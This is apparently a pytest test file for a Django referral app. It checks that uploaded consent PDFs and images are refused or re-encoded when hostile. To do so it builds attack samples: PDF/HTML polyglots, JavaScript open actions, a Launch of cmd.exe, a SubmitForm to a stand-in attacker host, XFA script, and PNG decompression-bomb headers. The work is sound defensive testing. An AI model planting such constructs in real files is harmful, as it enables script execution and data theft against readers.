"""The consent form uploaded with a referral (or on the consent tab) is
checked as a whole (``rattinsats.uploads``): a PDF is parsed in full and refused when damaged,
encrypted, active or followed by something else; an image is decoded and
encoded anew, so that only the picture is stored; a decompression bomb is
refused before it is decoded. Every attack file is made here, in the test."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image, ImageFile

from rattinsats import uploads
from referrals import services
from referrals.models import Referral
from tests.conftest import client_for
from tests.factories import referral_counsellor
from tests.referrals.documents import jpeg_bytes, pdf_bytes, png_bytes
from tests.referrals.test_referral_services import submit_data
from tests.referrals.test_referral_views import form_data

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"

UNREADABLE = "PDF-filen går inte att läsa"
AFTER_END = "annat innehåll efter filens slut"
ACTIVE = "skript, inbäddade filer eller automatiska åtgärder"
ENCRYPTED = "krypterad eller lösenordsskyddad"
IMAGE_UNREADABLE = "Bilden går inte att läsa"
TOO_MANY_PIXELS = "för många bildpunkter"


def check(content: bytes, name: str = "samtycke.pdf") -> uploads.ConsentDocument:
    return uploads.validate_consent_document(SimpleUploadedFile(name, content))


def refused(content: bytes, name: str = "samtycke.pdf") -> str:
    with pytest.raises(ValidationError) as caught:
        check(content, name)
    return " ".join(caught.value.messages)


# --- Building PDFs by hand ---------------------------------------------------


def handmade_pdf(after_header: bytes = b"") -> bytes:
    """A minimal valid PDF written byte by byte, with its cross-reference
    table right: ``after_header`` goes between the header and the first
    object (where a polyglot puts its HTML)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + after_header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def with_incremental_update(base: bytes) -> bytes:
    """``base`` with an incremental update appended, as a signing tool
    writes one: a new object, its own cross-reference section and a trailer
    pointing back to the first. The file then holds two %%EOF."""
    with pikepdf.open(io.BytesIO(base)) as pdf:
        size = int(pdf.trailer.Size)
        root = pdf.Root.objgen[0]
    previous = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    out = bytearray(base)
    offset = len(out)
    out += b"%d 0 obj\n<< /Producer (Signeringsverktyg) >>\nendobj\n" % size
    xref = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n" % (size, offset)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n" % (
        size + 1,
        root,
        size,
        previous,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def javascript(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )


def link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    pdf.pages[0].obj.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=[50, 50, 200, 80],
                    A=action,
                )
            ]
        )
    )


def open_with_javascript(pdf):
    pdf.Root.OpenAction = javascript(pdf)


def javascript_in_names(pdf):
    names = pikepdf.Array([pikepdf.String("start"), javascript(pdf)])
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def link_with_javascript(pdf):
    link(pdf, pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))


def link_that_launches(pdf):
    link(pdf, pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def link_that_submits(pdf):
    link(
        pdf,
        pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://angripare.example/samla")
        ),
    )


def page_with_automatic_action(pdf):
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.se"))
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=action)


def open_a_web_address(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI=pikepdf.String("https://angripare.example")
    )


def attached_html(pdf):
    pdf.attachments["samtycke.html"] = pikepdf.AttachedFileSpec(pdf, HTML, mime_type="text/html")


def xfa_form(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def no_page(pdf):
    del pdf.pages[0]


def open_at_first_page(pdf):
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])


def web_link(pdf):
    link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://eskilstuna.se")))


def a_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", HTML)
    return out.getvalue()


def weasyprint_pdf() -> bytes:
    from weasyprint import HTML as Page

    return Page(
        string='<html lang="sv"><title>Samtycke</title><h1>Samtycke</h1><p>Jag samtycker.</p>'
    ).write_pdf(pdf_variant="pdf/ua-1")


# --- PDF ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(pdf_bytes, id="one page"),
        pytest.param(handmade_pdf, id="written by hand"),
        pytest.param(weasyprint_pdf, id="tagged, with fonts and text"),
        pytest.param(lambda: pdf_bytes(open_at_first_page), id="opens at page 1, fit"),
        pytest.param(lambda: pdf_bytes(web_link), id="a link to a web page"),
        pytest.param(lambda: with_incremental_update(pdf_bytes()), id="incremental update"),
        pytest.param(lambda: pdf_bytes() + b"\r\n\x00\x00 \n", id="whitespace after %%EOF"),
        pytest.param(
            lambda: pdf_bytes(object_stream_mode=pikepdf.ObjectStreamMode.generate),
            id="object streams",
        ),
    ],
)
def test_it_accepts_a_valid_pdf_and_stores_it_as_uploaded(make):
    content = make()
    checked = check(content)
    assert (checked.media_type, checked.extension) == ("application/pdf", "pdf")
    assert checked.content == content


def test_the_incremental_update_is_read_not_ignored():
    content = with_incremental_update(pdf_bytes())
    assert content.count(b"%%EOF") == 2
    with pikepdf.open(io.BytesIO(content), attempt_recovery=False) as pdf:
        assert str(pdf.docinfo.Producer) == "Signeringsverktyg"
    check(content)


@pytest.mark.parametrize(
    ("make", "message"),
    [
        pytest.param(lambda: b"%PDF-1.7\n" + HTML, UNREADABLE, id="PDF header followed by HTML"),
        pytest.param(lambda: b"%PDF-1.7\n" + HTML + b"%%EOF\n", UNREADABLE, id="header, HTML, EOF"),
        pytest.param(lambda: handmade_pdf(HTML), UNREADABLE, id="HTML before the first object"),
        pytest.param(
            lambda: pdf_bytes()[:9] + HTML + pdf_bytes()[9:], UNREADABLE, id="HTML, offsets wrong"
        ),
        pytest.param(lambda: pdf_bytes() + HTML, AFTER_END, id="HTML after %%EOF"),
        pytest.param(lambda: pdf_bytes() + a_zip(), AFTER_END, id="ZIP after %%EOF"),
        pytest.param(lambda: pdf_bytes()[:-80], UNREADABLE, id="cut short"),
        pytest.param(lambda: pdf_bytes(no_page), UNREADABLE, id="no page"),
        pytest.param(lambda: pdf_bytes(open_with_javascript), ACTIVE, id="JavaScript on open"),
        pytest.param(lambda: pdf_bytes(javascript_in_names), ACTIVE, id="document JavaScript"),
        pytest.param(lambda: pdf_bytes(link_with_javascript), ACTIVE, id="link with JavaScript"),
        pytest.param(lambda: pdf_bytes(link_that_launches), ACTIVE, id="Launch"),
        pytest.param(lambda: pdf_bytes(link_that_submits), ACTIVE, id="SubmitForm"),
        pytest.param(lambda: pdf_bytes(page_with_automatic_action), ACTIVE, id="page /AA"),
        pytest.param(lambda: pdf_bytes(open_a_web_address), ACTIVE, id="OpenAction URI"),
        pytest.param(lambda: pdf_bytes(attached_html), ACTIVE, id="EmbeddedFiles"),
        pytest.param(lambda: pdf_bytes(xfa_form), ACTIVE, id="XFA form"),
        pytest.param(
            lambda: pdf_bytes(encryption=pikepdf.Encryption(user="hemligt", owner="ägare")),
            ENCRYPTED,
            id="encrypted with a password",
        ),
        pytest.param(
            lambda: pdf_bytes(encryption=pikepdf.Encryption(user="", owner="ägare")),
            ENCRYPTED,
            id="encrypted without an open password",
        ),
    ],
)
def test_it_refuses_a_hostile_or_broken_pdf(make, message):
    assert message in refused(make())


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    content = pdf_bytes(open_with_javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in content  # not visible in the raw bytes
    assert ACTIVE in refused(content)


# --- Images ------------------------------------------------------------------


def png_chunks(data: bytes) -> list[bytes]:
    """The chunk types of a PNG, in order; fails on bytes after IEND."""
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    kinds, at = [], 8
    while at < len(data):
        (length,) = struct.unpack(">I", data[at : at + 4])
        kinds.append(data[at + 4 : at + 8])
        at += 12 + length
        if kinds[-1] == b"IEND":
            break
    assert at == len(data), "bytes after IEND"
    return kinds


def jpeg_markers(data: bytes) -> list[int]:
    """The markers of a JPEG up to the image data (start of scan)."""
    assert data.startswith(b"\xff\xd8")
    markers, at = [], 2
    while True:
        assert data[at] == 0xFF
        marker = data[at + 1]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: the image data follows
            return markers
        (length,) = struct.unpack(">H", data[at + 2 : at + 4])
        at += 2 + length


def pixels(data: bytes) -> list:
    with Image.open(io.BytesIO(data)) as picture:
        return list(picture.convert("RGB").get_flattened_data())


def test_a_png_with_html_appended_is_stored_without_it():
    original = png_bytes(pnginfo=_text_chunk("Comment", "<script>alert(1)</script>"))
    content = original + HTML
    assert b"<script>" in content
    checked = check(content, "samtycke.png")
    assert (checked.media_type, checked.extension) == ("image/png", "png")
    assert b"<script" not in checked.content and b"<html" not in checked.content
    assert set(png_chunks(checked.content)) == {b"IHDR", b"IDAT", b"IEND"}  # no tEXt
    assert pixels(checked.content) == pixels(original)  # the same picture


def _text_chunk(key: str, value: str):
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text(key, value)
    return info


def test_a_jpeg_with_a_script_in_a_comment_is_stored_without_it_or_any_metadata():
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"  # ImageDescription
    content = jpeg_bytes(comment=b"<script>alert(1)</script>", exif=exif.tobytes())
    assert 0xFE in jpeg_markers(content) and 0xE1 in jpeg_markers(content)  # COM, APP1
    checked = check(content + HTML, "samtycke.jpg")
    assert (checked.media_type, checked.extension) == ("image/jpeg", "jpg")
    assert b"<script" not in checked.content and b"<html" not in checked.content
    markers = jpeg_markers(checked.content)
    assert 0xFE not in markers  # no comment
    assert not any(0xE1 <= m <= 0xEF for m in markers)  # no EXIF, XMP, ICC or other APPn
    assert checked.content.rstrip(b"\x00").endswith(b"\xff\xd9")  # nothing after the image
    with Image.open(io.BytesIO(checked.content)) as picture:
        assert picture.size == (60, 40)
        assert "comment" not in picture.info and "exif" not in picture.info


def test_a_phone_photo_stays_upright_without_its_exif():
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to show
    checked = check(jpeg_bytes(exif=exif.tobytes()), "foto.jpg")
    with Image.open(io.BytesIO(checked.content)) as picture:
        assert picture.size == (40, 60)
        assert picture.getexif().get(0x0112) is None


def test_a_16_bit_grey_png_keeps_its_greys():
    grey = Image.new("I;16", (8, 8), 32896)  # mid grey on 16 bits
    checked = check(png_bytes(grey), "skanning.png")
    with Image.open(io.BytesIO(checked.content)) as picture:
        assert picture.mode == "L"
        assert picture.getpixel((0, 0)) == 128


def png_header_claiming(width: int, height: int) -> bytes:
    """A decompression bomb's start: a valid PNG header claiming a huge
    image, and a sliver of image data (never decoded: it is refused first)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\x00" * 100_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize(
    "size", [(100_000, 100_000), (8000, 7000), (uploads.MAX_IMAGE_PIXELS + 1, 1)]
)
def test_it_refuses_an_image_with_too_many_pixels_before_decoding_it(size):
    content = png_header_claiming(*size)
    assert len(content) < 2000
    assert TOO_MANY_PIXELS in refused(content, "bild.png")


def test_the_pixel_limit_is_explicit_and_pillow_keeps_it_too(monkeypatch):
    assert uploads.MAX_IMAGE_PIXELS == 50_000_000
    assert Image.MAX_IMAGE_PIXELS == uploads.MAX_IMAGE_PIXELS
    # A real image over a lower limit is refused with the same message.
    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 60 * 40 - 1)
    assert TOO_MANY_PIXELS in refused(jpeg_bytes(), "bild.jpg")
    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 60 * 40)
    check(jpeg_bytes(), "bild.jpg")


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(lambda: png_bytes()[:60], id="PNG cut short"),
        pytest.param(lambda: jpeg_bytes()[:200], id="JPEG cut short"),
        pytest.param(lambda: b"\x89PNG\r\n\x1a\n" + HTML, id="PNG signature followed by HTML"),
        pytest.param(lambda: b"\xff\xd8\xff\xe0" + HTML, id="JPEG start followed by HTML"),
        pytest.param(lambda: png_header_claiming(10, 10)[:33] + HTML, id="PNG header and HTML"),
    ],
)
def test_it_refuses_an_image_that_does_not_decode(make, monkeypatch):
    # As in the running app: importing WeasyPrint tells Pillow to pad
    # cut-short images instead of refusing them. The check decodes strictly
    # all the same, and leaves the setting as it found it.
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    assert IMAGE_UNREADABLE in refused(make(), "bild.png")
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True


def test_a_png_named_jpeg_is_judged_by_its_content():
    checked = check(png_bytes(), "samtycke.jpg")
    assert (checked.media_type, checked.extension) == ("image/png", "png")


# --- Through the referral: what is stored and served ------------------------


@pytest.fixture
def referrer(db, private_media):
    return referral_counsellor()


@pytest.mark.django_db
def test_the_referral_stores_the_image_encoded_anew(referrer):
    upload = SimpleUploadedFile("samtycke.png", png_bytes() + HTML, "image/png")
    referral = services.referral_submit(actor=referrer, **submit_data(consent_document=upload))
    stored = referral.consent_document.read()
    assert b"<script" not in stored
    assert set(png_chunks(stored)) == {b"IHDR", b"IDAT", b"IEND"}
    assert referral.consent_document_type == "image/png"
    assert referral.consent_document.name.endswith(".png")


@pytest.mark.django_db
def test_the_referral_service_refuses_a_hostile_pdf_and_stores_nothing(referrer, private_media):
    upload = SimpleUploadedFile("samtycke.pdf", pdf_bytes(open_with_javascript))
    with pytest.raises(ValidationError) as caught:
        services.referral_submit(actor=referrer, **submit_data(consent_document=upload))
    assert ACTIVE in " ".join(caught.value.messages)
    assert not Referral.objects.exists()
    assert [p for p in private_media.rglob("*") if p.is_file()] == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"%PDF-1.7\n" + HTML, UNREADABLE),
        (pdf_bytes() + HTML, AFTER_END),
        (pdf_bytes(encryption=pikepdf.Encryption(user="x", owner="y")), ENCRYPTED),
    ],
)
def test_the_form_shows_the_reason_in_swedish(referrer, content, message):
    response = client_for(referrer).post(
        reverse("referrals:new"),
        {**form_data(), "consent_document": SimpleUploadedFile("samtycke.pdf", content)},
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Referral.objects.exists()


@pytest.mark.django_db
def test_the_served_file_is_the_clean_one(referrer):
    content = jpeg_bytes(comment=b"<script>alert(1)</script>") + HTML
    response = client_for(referrer).post(
        reverse("referrals:new"),
        {**form_data(), "consent_document": SimpleUploadedFile("foto.jpg", content)},
    )
    assert response.status_code == 302
    referral = Referral.objects.get()
    served = client_for(referrer).get(reverse("referrals:consent_document", args=[referral.pk]))
    assert served["Content-Type"] == "image/jpeg"
    body = b"".join(served.streaming_content)
    assert b"<script" not in body and b"<html" not in body
    assert len(pixels(body)) == 60 * 40


def test_an_upload_checked_by_the_form_is_not_read_and_encoded_again(monkeypatch):
    """The form checks the file and the service checks it again (it trusts
    no caller); the second check of the same upload reuses the first."""
    encoded = []
    real = uploads._reencode_image

    def counting(data, extension):
        encoded.append(extension)
        return real(data, extension)

    monkeypatch.setattr(uploads, "_reencode_image", counting)
    upload = SimpleUploadedFile("samtycke.png", png_bytes())
    first = uploads.validate_consent_document(upload)
    second = uploads.validate_consent_document(upload)
    assert second is first
    assert encoded == ["png"]
    # Another upload with the same bytes is checked on its own.
    uploads.validate_consent_document(SimpleUploadedFile("samtycke.png", png_bytes()))
    assert encoded == ["png", "png"]
